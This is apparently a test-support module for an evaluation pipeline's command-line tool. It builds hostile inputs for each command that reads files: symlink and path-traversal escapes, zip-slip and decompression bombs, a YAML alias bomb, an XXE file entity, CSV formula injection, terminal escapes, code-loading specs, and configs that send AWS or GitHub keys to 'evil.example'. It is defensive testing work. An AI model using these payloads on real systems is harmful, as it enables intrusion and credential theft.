"""The doors of the program: each value of a command that names something to read, and hostile inputs of that kind.

The commands and their values come from the command line itself. One that is in none of the tables below is an error
that names the line to add.
"""

import json
import re
import zipfile
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from pipelines.engine.planning.files import config_file
from tests import documents

# The kind of input that a value of this name and metavar leads to; with the command before it if that decides.
KINDS = {
    "config FILE": "settings", "grid FILE": "settings", "prices_from FILE": "settings", "manifest FILE": "manifest",
    "data PATH": "rows", "source": "rows",
    "prompts_from FILE": "prompts", "judge_prompts_from FILE": "prompts",
    "model MODEL": "model", "judge MODEL": "model", "tokenizer MODEL": "model",
    "run": "run", "run RUN": "run", "runs RUN…": "run", "runs FOLDER": "run", "shards RUN…": "run",
    "a": "run", "b": "run", "paths RUN|FILE…": "run", "folders FOLDER…": "run", "score subject RUN|TASK|METRIC": "run",
    "plan subject RUN|TASK": "run", "out FOLDER": "run",
    "score files FILE…": "predictions", "label-agreement files FILE…": "predictions",
    "predictions TASK=WHOLE,RETRIEVED[,MORE]…": "predictions", "predictions TASK=FILE…": "predictions",
    "compare b": "log", "logs LOG…": "log",
    "curve subject RUN|TASK": "run", "curve paths RUN|FILE…": "run",
    "predictions FILE": "predictions", "check FILE": "predictions",
    "ask words FILE… [QUESTION]": "documents", "index files FILE…": "documents", "cost files FILE…": "documents",
}  # fmt: skip
# Values that lead to no input of other people: names, numbers, texts and files to write.
TYPED = {
    "task", "task TASK", "tasks TASK…", "example ID", "name", "name TASK", "name NAME", "name BENCHMARK", "benchmark",
    "builder", "split SPLIT", "validation SPLIT", "limit N", "sample N", "shard I/N", "chunker CHUNKER",
    "retriever RETRIEVER", "strategy STRATEGY", "strategies STRATEGY", "k N", "k K", "budget BUDGET",
    "query QUERY", "order ORDER", "over_window HOW", "prompt PROMPT", "metrics METRIC", "metric METRIC", "metric SCORE",
    "primary_metric SCORE", "baseline CELL", "max_new_tokens TOKENS", "max_new_tokens N",
    "data_revision REV", "revision REV", "engine ENGINE", "seed N",
    "set_options NAME=VALUE",
    "pilot N", "allow_host HOST", "server URL", "changed N",
    "level SHARE",
    "resamples N", "comparisons N", "detect POINTS", "power SHARE", "alpha SHARE", "correlation R", "sd POINTS",
    "icc SHARE", "questions N", "cluster FIELD", "fail_if CONDITION",
    "group_by FIELD", "repeats N", "repeat N", "over AXIS", "bins BINS", "share SHARE",
    "fields FIELD=VALUE", "set FIELD=VALUE", "recipe RECIPE", "format FORMAT", "to HARNESS", "stage STAGE",
    "sort ORDER", "out FILE", "page FILE", "plot FILE",
}  # fmt: skip
QA = {"task": ["qa"], "data": ["rows.jsonl"], "model": ["extractive"], "metrics": ["f1"], "retriever": ["bm25"]}
# The values that each command takes when none is hostile, and the exit code with them.
PLAIN: Mapping[str, tuple[int, Mapping[str, Sequence[str]]]] = {
    "run": (0, QA),
    "prompt": (0, {"task": ["qa"], "example": ["0"], "data": ["rows.jsonl"], "model": ["extractive"]}),
    "score": (0, {"subject": ["run"]}),
    "rerun": (0, {"run": ["run"], "limit": ["1"]}),
    "merge": (0, {"shards": ["s1", "s2"], "out": ["merged"]}),
    "ask": (0, {"words": ["books", "Who has cats?"], "model": ["extractive"]}),
    "index": (0, {"files": ["books"], "retriever": ["bm25"]}),
    "cost": (0, {"files": ["books"], "model": ["extractive"]}),
    "ablate": (0, {**QA, "k": ["1", "2"]}),
    "versus": (0, {**QA, "budget": ["20 words"]}),
    "evidence": (0, {"tasks": ["qa"], "data": ["rows.jsonl"], "retriever": ["bm25"], "chunker": ["sentences:1"]}),
    "compare": (0, {"a": ["run"], "b": ["other"]}),
    "plan": (0, {"subject": ["qa"], "data": ["rows.jsonl"], "sd": ["50"], "icc": ["0.2"]}),
    "curve": (0, {"subject": ["run"], "paths": ["other"]}),
    "agreement": (0, {"task": ["qa"], "data": ["rows.jsonl"]}),
    "label-agreement": (0, {"task": ["financebench"], "files": ["labels.jsonl"]}),
    "repeats": (0, {"logs": ["run", "run"]}),
    "build": (0, {"builder": ["length_filter"], "source": ["rows.jsonl"], "fields": ["minimum=1"], "out": ["built"]}),
    "train": (2, {"task": ["qa"], "data": ["rows.jsonl"], "model": ["linear"], "out": ["trained"]}),  # it has labels
    "submit": (2, {"benchmark": ["scrolls"], "runs": ["run"], "out": ["sent"]}),  # qa is none of its tasks
    "benchmark": (2, {"name": ["scrolls"], "runs": ["run"]}),
    "published": (0, {"task": ["narrativeqa"]}),
    "spread": (0, {"task": ["qa"], "data": ["rows.jsonl"]}),
    "lengths": (0, {"task": ["qa"], "data": ["rows.jsonl"]}),
    "outputs": (0, {"run": ["run"]}),
    "report": (0, {"runs": ["run"]}),
    "export": (0, {"run": ["run"], "to": ["inspect"]}),
    "view": (0, {"folders": ["run"], "once": [], "no_open": []}),
    "show": (0, {"run": ["run"]}),
    "blame": (2, {"runs": ["run"]}),  # no gold evidence
    "runs": (0, {"folders": ["run"]}),
    "verify": (0, {"run": ["run"]}),
    "tasks": (0, {}),
    "components": (0, {}),
}  # fmt: skip
FILES = ("run.json", "requests.jsonl", "journal.jsonl", "predictions.jsonl", "scores.json", "report.html", ".lock")
ELSEWHERE = {
    "fetch": "it asks the hub for what was typed, and reads no file",
    "lm-eval": "it hands its words to the program of that name",
}
# The words of each command, by the name of its function.
PATHS = {
    {"runs list": "runs", "benchmark scores": "benchmark"}.get(path, path.rpartition(" ")[2]): path
    for path in documents.commands()
}
OUTSIDE = "../../../secret/book.txt"  # relative to the hostile input
DEEP = "[" * 200_000 + "]" * 200_000
DIGITS = "1" * 5_000
ESCAPE = "\x1b]0;owned\x07\x1b[2J"


@dataclass(frozen=True, slots=True)
class Door:
    """A value of a command, and the kind of input that it leads to."""

    command: str
    name: str
    kind: str

    def __str__(self) -> str:
        return f"{self.command} {self.name}"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A hostile input: `make` writes it to a folder and returns what is typed. `names`: the arguments it replaces."""

    name: str
    make: Callable[[Path], str]
    names: frozenset[str] = frozenset()

    def __str__(self) -> str:
        return self.name


def commands() -> Mapping[str, Any]:
    """The commands by the names of their functions."""
    by_path = documents.commands()
    return {name: by_path[path] for name, path in PATHS.items()}


def _values(command: Any) -> Iterator[tuple[str, str]]:
    """The name and metavar of each value that a command takes."""
    for parameter in command.params:
        if not getattr(parameter, "is_flag", False):
            yield parameter.name.removesuffix("_"), re.sub(r"\[,\w*…\]", "", parameter.metavar or "")


def unclassified() -> list[str]:
    """The lines to add to the tables: one for each command and value that is in none."""
    lines = [
        f'PLAIN: add "{name}": (0, {{…}}), the words that it runs with'
        for name in commands()
        if name not in PLAIN and name not in ELSEWHERE
    ]
    for name, command in commands().items():
        for value, metavar in _values(command):
            key = f"{value} {metavar}".strip()
            if name not in ELSEWHERE and not {key, f"{name} {key}"} & {*KINDS, *TYPED}:
                lines.append(f'KINDS: add "{key}": KIND; TYPED: add {key}, where nothing is read ({name})')
    return lines


def doors() -> list[Door]:
    """The values of all commands that lead to an input."""
    return [
        Door(name, value, kind)
        for name, command in commands().items()
        if name not in ELSEWHERE
        for value, metavar in _values(command)
        if (kind := _kind(name, f"{value} {metavar}".strip()))
    ]


def _kind(command: str, key: str) -> str | None:
    return KINDS.get(f"{command} {key}") or KINDS.get(key)


def words(command: str, **values: Sequence[str]) -> list[str]:
    """A command line with these values, in the command's order."""
    line: list[str] = []
    for parameter in commands()[command].params:
        typed = values.get(parameter.name.removesuffix("_"))
        if typed is None:
            continue
        if parameter.param_type_name == "argument":
            line += typed
        else:
            option = next(name for name in parameter.opts if name.startswith("--"))
            line += [part for value in typed for part in (option, value)] if typed else [option]
    return [*PATHS[command].split(), *line]


def words_through(door: Door, typed: str, names: frozenset[str]) -> list[str]:
    """The plain command line, with `typed` as the door's value and without the arguments in `names`."""
    plain = PLAIN[door.command][1]
    rest = list(plain.get(door.name, ()))[1:]
    return words(door.command, **{**{key: plain[key] for key in plain if key not in names}, door.name: [typed, *rest]})


def _file(name: str, content: str | bytes) -> Callable[[Path], str]:
    def make(folder: Path) -> str:
        data = content if isinstance(content, bytes) else content.encode()
        (folder / name).write_bytes(data)
        return str(folder / name)

    return make


def _link_in(name: str, target: str, beside: Mapping[str, str] | None = None) -> Callable[[Path], str]:
    """Write a folder with a link that leads out of it, to a file of secrets."""

    def make(folder: Path) -> str:
        (folder / "thing").mkdir()
        for file, content in (beside or {}).items():
            (folder / "thing" / file).write_text(content, encoding="utf-8")
        (folder / "thing" / name).symlink_to(Path.cwd().parent / "secret" / target)
        return str(folder / "thing")

    return make


def _json_file(name: str) -> list[Hostile]:
    """Hostile inputs that are the same for all JSON."""
    lines = name.endswith("l")
    return [
        Hostile("nested 200,000 deep", _file(name, DEEP + "\n")),
        Hostile("a number of 5,000 digits", _file(name, f'{{"id": {DIGITS}}}' + "\n" * lines)),
        Hostile("commands to the terminal", _file(name, json.dumps({"id": ESCAPE, ESCAPE: ESCAPE}))),
    ]


def _settings() -> list[Hostile]:
    api = {"name": "openai", "model": "m"}
    readers = {
        "a host elsewhere": {**api, "base_url": "http://evil.example/v1"},
        "a key of another service": {**api, "base_url": "http://127.0.0.1:9", "key_variable": "AWS_SECRET_ACCESS_KEY"},
        "a provider's key for this machine": {**api, "base_url": "http://127.0.0.1:9", "key_variable": "GITHUB_TOKEN"},
        "a program": {"name": "subprocess:Popen", "args": ["touch", "mark"]},
    }
    code = [
        Hostile(f"code as {name}", _file("s.json", json.dumps({name: spec})), frozenset({name, f"{name}s"}))
        for name in sorted(config_file.run_types())
        for spec in ("evil:Words",)
    ]
    by_reader = [
        Hostile(key, _file("s.json", json.dumps({"model": reader})), frozenset({"model"}))
        for key, reader in readers.items()
    ]
    aliases = "a: &a [x, x, x, x, x, x, x, x]\n" + "".join(
        f"{b}: &{b} [{', '.join([f'*{a}'] * 8)}]\n" for a, b in zip("abcdefg", "bcdefgh", strict=True)
    )
    return [*by_reader, Hostile("a bomb of aliases", _file("s.yaml", aliases)), *_json_file("s.json"), *code]


def _zip(members: Mapping[str, str]) -> bytes:
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _rows() -> list[Hostile]:
    row = {"id": "0", "question": "Who?", "answers": ["Ann"]}
    return [
        Hostile("a file outside", _link_in("test.jsonl", "rows.jsonl")),
        Hostile("a document outside", _file("r.jsonl", json.dumps({**row, "document_path": OUTSIDE}))),
        Hostile("code", _file("r.py", "import evil\n")),
        Hostile("an archive with a way out", _file("r.zip", _zip({"../../victim": "x", "test.jsonl": "{}"}))),
        Hostile("an archive of nothing", _file("r.jsonl.gz", b"\x1f\x8b" + b"\0" * 40)),
        *_json_file("r.jsonl"),
    ]  # fmt: skip


def _documents() -> list[Hostile]:
    entity = '<!DOCTYPE x [<!ENTITY e SYSTEM "../../../secret/book.txt">]><html><body><p>&e; Ann.</p></body></html>'
    return [
        Hostile("a document outside", _link_in("b.txt", "book.txt", {"a.txt": "Ann has a cat."})),
        Hostile("an entity that is a file", _file("a.html", entity)),
        Hostile("an entity in a book", _file("a.epub", _zip({"META-INF/container.xml": entity, "a.xhtml": entity}))),
        Hostile("a bomb", _file("a.docx", _zip({"word/document.xml": "<w>" + " " * (65 << 20) + "</w>"}))),
        Hostile("a name that commands the terminal", _file(f"{ESCAPE.replace('/', '')}.txt", "Ann has a cat.")),
    ]


def _run_folder(change: Callable[[Path], None], source: str = "run") -> Callable[[Path], str]:
    def make(folder: Path) -> str:
        import shutil

        shutil.copytree(source, folder / "run")
        change(folder / "run")
        return str(folder / "run")

    return make


def _replaced(name: str, content: str) -> Callable[[Path], None]:
    return lambda run: (run / name).write_text(content, encoding="utf-8") and None


def _linked(name: str, target: str) -> Callable[[Path], None]:
    def change(run: Path) -> None:
        (run / name).unlink(missing_ok=True)
        (run / name).symlink_to(Path.cwd().parent / target)

    return change


def _record(**entries: Any) -> Callable[[Path], None]:
    """Change fields of a run's record, and renew its checksum."""

    def change(run: Path) -> None:
        from longdoc import checked_json

        record = json.loads((run / "run.json").read_text(encoding="utf-8"))
        for name, value in entries.items():
            for part in (record, record["spec"], record["arguments"]):
                if name in part:
                    part[name] = value
        (run / "run.json").write_text(checked_json.dumps(record), encoding="utf-8")

    return change


def _runs() -> list[Hostile]:
    hosts = {
        "name": "openai",
        "model": "m",
        "base_url": "http://evil.example/v1",
        "key_variable": "AWS_SECRET_ACCESS_KEY",
    }
    changes: dict[str, Callable[[Path], None]] = {}
    for name in (*FILES, "index.html", ".report.html.tmp"):
        changes[f"{name} is the victim"] = _linked(name, "victim")
    for name in FILES:
        changes[f"{name} is a secret"] = _linked(name, f"secret/run/{name}")
        if name.endswith(("json", "jsonl")):
            changes[f"{name} is nested 200,000 deep"] = _replaced(name, DEEP)
            changes[f"{name} has a number of 5,000 digits"] = _replaced(name, f'{{"format": {DIGITS}}}\n')
            changes[f"{name} commands the terminal"] = _replaced(name, json.dumps({ESCAPE: ESCAPE}) + "\n")
    for name in ("task", "model", "retriever", "chunker", "strategy", "engine", "metrics", "judge", "data"):
        changes[f"the record names code as {name}"] = _record(**{name: {"name": "evil:Words"}})
        changes[f"the record commands the terminal as {name}"] = _record(**{name: ESCAPE})
    changes["the record names a host"] = _record(model=hosts)
    hostile_runs = [Hostile(name, _run_folder(change)) for name, change in changes.items()]
    grid_changes = {
        "the ablation's cells are links": _cells_linked,
        "the ablation itself is outside": _ablation_is_outside,
    }
    return hostile_runs + [Hostile(name, _run_folder(change, "grid")) for name, change in grid_changes.items()]


def _ablation_is_outside(folder: Path) -> None:
    (folder / "ablation.json").unlink()
    (folder / "ablation.json").symlink_to(Path.cwd().parent / "secret" / "run" / "run.json")


def _cells_linked(folder: Path) -> None:
    import shutil

    for cell in sorted((folder / "runs").iterdir()):
        shutil.rmtree(cell)
        cell.symlink_to(Path.cwd().parent / "secret" / "run")


def _models() -> list[Hostile]:
    def model_folder(content: str) -> Callable[[Path], str]:
        def make(folder: Path) -> str:
            (folder / "model").mkdir()
            (folder / "model" / "reader.json").write_text(content, encoding="utf-8")
            (folder / "model" / "config.json").write_text(content, encoding="utf-8")
            return f"./{folder / 'model'}"

        return make

    readers = {
        "code": {"name": "evil:Words", "auto_map": {"AutoModel": "evil.Words", "AutoConfig": "evil.Words"}},
        "a host": {"name": "openai", "model": "m", "base_url": "http://evil.example", "key_variable": "HOME"},
        "commands to the terminal": {"name": ESCAPE, "model_type": ESCAPE},
        "an encoder of code": {"name": "bi_encoder", "encoder": "evil:Words"},
    }
    outside = _link_in("reader.json", "reader.json")
    return [
        *(Hostile(name, model_folder(json.dumps(content))) for name, content in readers.items()),
        Hostile("nested 200,000 deep", model_folder(DEEP)),
        Hostile("a number of 5,000 digits", model_folder(f'{{"name": {DIGITS}}}')),
        Hostile("a description outside", lambda folder: f"./{outside(folder)}"),
    ]


def _prompts() -> list[Hostile]:
    code = "import evil\nPROMPTS = {'qa': __import__('evil').TASK}\nqa = '{context}'\n"
    return [
        Hostile("code", _file("p.py", code)),
        Hostile("a file outside", _link_in("dataset2prompt.json", "prompts.json")),
        *_json_file("p.json"),
        Hostile("fields that reach into objects", _file("p.json", '{"qa": "{context.__class__.__globals__}"}')),
    ]  # fmt: skip


def _predictions() -> list[Hostile]:
    return [
        *_json_file("p.jsonl"),
        *_json_file("p.json"),
        Hostile("a formula and a command", _file("p.csv", f'id,prediction\n0,"=cmd()|{ESCAPE}"\n')),
        Hostile("a file outside", _link_in("scrolls_predictions.csv", "predictions.csv")),
    ]


def _logs() -> list[Hostile]:
    eval_members = {"header.json": DEEP, "samples/1_epoch_1.json": "{}", "summaries.json": "[]"}
    return [
        *_json_file("l.json"),
        *_json_file("l.jsonl"),
        Hostile("a formula and a command", _file("l.csv", f'id,f1,document\n0,1,"=cmd()|{ESCAPE}"\n')),
        Hostile("a log nested 200,000 deep", _file("l.eval", _zip(eval_members))),
        Hostile("a log with a way out", _file("l.eval", _zip({"../../victim": "x", "header.json": "{}"}))),
        Hostile("a bomb", _file("l.eval", _zip({"header.json": " " * (65 << 20)}))),
    ]


def _manifests() -> list[Hostile]:
    code = json.dumps({"builder": "evil:Words", "parameters": {}, "seed": 0, "format": 1})
    return [Hostile("code", _file("manifest.json", code)), *_json_file("manifest.json")]


HOSTILE: Mapping[str, Sequence[Hostile]] = {
    "settings": _settings(), "rows": _rows(), "documents": _documents(), "run": _runs(), "model": _models(),
    "prompts": _prompts(), "predictions": _predictions(), "manifest": _manifests(),
    "log": _logs(),
}  # fmt: skip
